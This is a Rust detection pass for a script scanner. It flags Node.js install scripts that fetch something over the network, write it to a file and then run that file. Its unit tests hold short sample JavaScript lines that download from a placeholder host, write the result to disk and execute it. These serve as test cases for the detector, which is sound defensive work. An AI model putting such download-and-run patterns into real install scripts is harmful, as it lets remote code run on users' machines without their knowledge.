//! Scripts of node that fetch something over the network, write a file, and run that file.

use super::program::{Pass, Program};
use crate::Limits;
use crate::limits::{INSTALLER_NAME, INSTALLER_NAMES};
use davy_model::{Extraction, Fact, FactName};
use oxc_ast::ast::{CallExpression, Expression, StringLiteral, TemplateElement};
use oxc_ast_visit::{VisitJs, walk_js as walk};
use oxc_span::{GetSpan, Span};

/// Programs that can start others, write files, and know the network.
pub(super) const PASS: Pass = Pass { words: &WORDS, wants: installs, read };

const WORDS: [&str; 6] = ["child_process", "chmod", "createWriteStream", "writeFile", "http", "fetch"];

fn installs(counts: &[u32]) -> bool {
    let stands = |from: usize, to: usize| counts.iter().take(to).skip(from).any(|count| *count > 0);
    stands(0, 1) && stands(1, 4) && stands(4, 6)
}

/// Functions of node that write a file or make it one that can be run; the first argument names it.
const WRITES: [&str; 7] =
    ["createWriteStream", "writeFile", "writeFileSync", "chmod", "chmodSync", "copyFileSync", "renameSync"];
/// Those that start a program; the first argument names it, or is a command.
const RUNS: [&str; 7] = ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"];
/// Those that ask a server.
const FETCHES: [&str; 3] = ["get", "request", "fetch"];

/// What a program does, as far as it has been read.
#[derive(Default)]
struct Seen {
    /// It asks somebody.
    asks: bool,
    /// It knows the network by a module or an address.
    knows: bool,
    /// Where files are named that it writes.
    written: Vec<Span>,
    /// Where commands stand that it runs.
    run: Vec<Span>,
}

impl<'a> VisitJs<'a> for Seen {
    fn visit_string_literal(&mut self, text: &StringLiteral<'a>) {
        self.knows |= is_network(text.value.as_str());
    }

    fn visit_template_element(&mut self, text: &TemplateElement<'a>) {
        self.knows |= is_network(text.value.raw.as_str());
    }

    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
        let name = callee(call).unwrap_or_default();
        match call.arguments.first().map(GetSpan::span) {
            _ if FETCHES.contains(&name) => self.asks = true,
            Some(first) if WRITES.contains(&name) => keep(&mut self.written, first),
            Some(first) if RUNS.contains(&name) => keep(&mut self.run, first),
            _ => {}
        }
        walk::walk_call_expression(self, call);
    }
}

fn read(program: &Program<'_, '_>, _: &Limits, out: &mut Extraction) {
    let mut seen = Seen::default();
    seen.visit_program(program.tree);
    if !seen.asks || !seen.knows {
        return;
    }
    let text = |span: Span| program.text.get(span.start as usize..span.end as usize).unwrap_or_default();
    let runs = |span: &&Span| seen.written.iter().any(|file| names(text(**span), text(*file)));
    if let (Some(span), Some(scope)) = (seen.run.iter().find(runs), out.scopes.first_mut()) {
        let (name, text) = (FactName::FetchedAndRun, Some("program".to_owned()));
        scope.facts.push(Fact { name, value: 0, count: 1, text, location: program.location(span.start) });
        davy_model::sort_by(&mut scope.facts, Fact::order);
    }
}

fn keep(spans: &mut Vec<Span>, span: Span) {
    if spans.len() < INSTALLER_NAMES && span.size() as usize <= INSTALLER_NAME {
        spans.push(span);
    }
}

/// The last name of what is called.
fn callee<'a>(call: &CallExpression<'a>) -> Option<&'a str> {
    match call.callee.get_inner_expression() {
        Expression::Identifier(name) => Some(name.name.as_str()),
        Expression::StaticMemberExpression(member) => Some(member.property.name.as_str()),
        _ => None,
    }
}

/// Whether a text is node's name of a way to the network, or an address.
fn is_network(text: &str) -> bool {
    let module = text.strip_prefix("node:").unwrap_or(text);
    matches!(module, "http" | "https") || text.starts_with("http://") || text.starts_with("https://")
}

/// Whether a command names a file, as a word of its own; both as they are written.
fn names(command: &str, file: &str) -> bool {
    let file = file.trim_matches(['\'', '"', '`']);
    let file = file.strip_prefix("./").unwrap_or(file);
    let is_word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '-' | '.');
    !file.is_empty()
        && command.match_indices(file).any(|(at, _)| {
            // `./file` is the file, `${file}` is its variable.
            let before = command[..at].trim_end_matches("./");
            let before = before.strip_suffix("${").unwrap_or(before);
            !before.ends_with(is_word) && !command[at + file.len()..].starts_with(is_word)
        })
}

#[cfg(test)]
mod tests {
    use crate::{Limits, extract};
    use davy_model::{Artifact, ArtifactKind, FactName};

    fn found(text: &str) -> usize {
        let bytes = text.as_bytes().into();
        let artifact = Artifact { path: "install.js".to_owned(), kind: ArtifactKind::Script, bytes };
        let extraction = extract(&artifact, &Limits::default());
        extraction.scopes.iter().flat_map(|scope| &scope.facts).filter(|f| f.name == FactName::FetchedAndRun).count()
    }

    #[test]
    fn what_is_fetched_written_and_run() {
        let begin = "const { execFile, exec } = require('child_process'); const fs = require('fs');";
        for rest in [
            "require('https').get(url, r => r.pipe(fs.createWriteStream(out)).on('finish', () => execFile(out)));",
            "fetch('https://f.example/x').then(x => { fs.writeFileSync('./helper', x); exec('./helper &'); });",
            "require('http').get(u, r => { fs.chmodSync(out, 0o755); exec(`${out} -q`); });",
        ] {
            assert_eq!(found(&format!("{begin}{rest}")), 1, "{rest}");
        }
        for rest in [
            // What runs is another thing.
            "require('https').get(url, r => r.pipe(fs.createWriteStream(out)).on('finish', () => execFile('make')));",
            "fetch('https://f.example/x').then(x => { fs.writeFileSync('outer', x); exec('out'); });",
            // Nothing is fetched, or nothing runs.
            "fs.writeFileSync('a.sh', text); exec('a.sh'); // http",
            "require('http').get(u, r => fs.chmodSync(out, 0o755));",
        ] {
            assert_eq!(found(&format!("{begin}{rest}")), 0, "{rest}");
        }
    }
}
